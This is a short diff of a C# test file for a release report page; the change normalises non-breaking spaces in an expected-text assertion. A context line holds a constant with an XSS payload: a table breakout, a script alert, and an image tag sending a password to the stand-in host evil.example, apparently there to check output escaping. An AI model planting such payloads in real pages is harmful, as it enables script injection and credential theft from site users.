@@ -12,7 +12,7 @@ public sealed partial class ReportPageTests
     private const string Planted = "</td></table><script>alert(document.domain)</script><img src=http://evil.example/?password=hunter2 onerror=alert(1)>";
 
     [Test]
-    public void Page_SaysWhatHappened_InThisOrder() => Assert.That(Texts(ReportPage.Text(ReportedReleases.Of(Watched.TurnedBack()))), Is.EqualTo(
+    public void Page_SaysWhatHappened_InThisOrder() => Assert.That(Texts(ReportPage.Text(ReportedReleases.Of(Watched.TurnedBack()))).Replace('\u00a0', ' '), Is.EqualTo(
         """
         Release of production
         v1.2.3 was rolled back
